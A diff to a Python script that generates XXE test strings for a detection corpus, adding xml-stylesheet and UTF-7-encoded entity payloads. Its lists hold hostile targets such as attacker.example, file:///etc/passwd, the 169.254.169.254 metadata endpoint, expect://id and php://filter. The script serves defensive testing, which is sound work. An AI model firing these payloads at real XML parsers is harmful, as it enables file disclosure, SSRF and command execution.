@@ -12,6 +12,12 @@ as it would arrive in a query string:
       x separator; one parent step spelled only the way an evasion
       spells it (overlong UTF-8, look-alike code points, 0x2e, tomcat
       "..;", "....//") x spelling x what follows (nothing, a name).
+  tests/data/gen-xxe2.txt  XXE fragments: an xml-stylesheet processing
+      instruction that loads a stylesheet from elsewhere (type xsl or an
+      absolute/scheme-relative/file href) x quoting x what follows; markup
+      declarations in UTF-7 where only '<' is shifted ("+ADw-!DOCTYPE",
+      "+ADw-!ENTITY") x declaration x target x with or without an
+      encoding="UTF-7" declaration.
 Written from each construct's grammar, not copied from any list; a single
 plain "../" is left out on purpose: in a parameter it is a relative link
 as often as an attack. Deterministic. Usage: tools/gen-unseen.py [DIR]."""
@@ -69,9 +75,36 @@ def trav2():
     return rows
 
 
+SHEET_HREF = ['http://attacker.example/evil.xsl', '//attacker.example/x.xsl',
+              'file:///etc/passwd', 'ftp://10.0.0.5/s.xsl', 'https://x.example/a.xslt',
+              'http://169.254.169.254/latest/meta-data/']
+UTF7_DECL = ['+ADw-!DOCTYPE foo +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-%s+ACI-+AD4-+AF0-+AD4-',
+             '+ADw-!ENTITY xxe SYSTEM +ACI-%s+ACI-+AD4-',
+             '+ADw-!ENTITY %% p SYSTEM +ACI-%s+ACI-+AD4-%%p;',
+             '+ADw-!DOCTYPE foo SYSTEM +ACI-%s+ACI-+AD4-']
+UTF7_TGT = ['file:///etc/passwd', 'http://attacker.example/x.dtd', 'expect://id',
+            'php://filter/resource=index.php', 'file:///c:/windows/win.ini']
+
+
+def xxe2():
+    out = []
+    for h in SHEET_HREF:
+        for q in ('"', "'"):
+            for typ in ('type=%stext/xsl%s ' % (q, q), '', 'type=%stext/xml%s ' % (q, q)):
+                for tail in ('', '<doc/>', '<root><a>1</a></root>'):
+                    out.append('<?xml-stylesheet %shref=%s%s%s?>%s' % (typ, q, h, q, tail))
+    for d in UTF7_DECL:
+        for t in UTF7_TGT:
+            for pre in ('', '<?xml version="1.0" encoding="UTF-7"?>', "<?xml version='1.0' encoding='utf-7'?>"):
+                out.append(pre + d % t)
+    # '+' is a space in a query and '%' starts an escape: a value
+    # carrying them sends %2B and %25
+    return [r.replace('%', '%25').replace('+', '%2B') for r in out]
+
+
 def main():
     d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
-    for name, lines in (('gen-trav2.txt', trav2()),):
+    for name, lines in (('gen-trav2.txt', trav2()), ('gen-xxe2.txt', xxe2())):
         with open(os.path.join(d, name), 'w') as f:
             for l in lines:
                 assert '\n' not in l and '\r' not in l
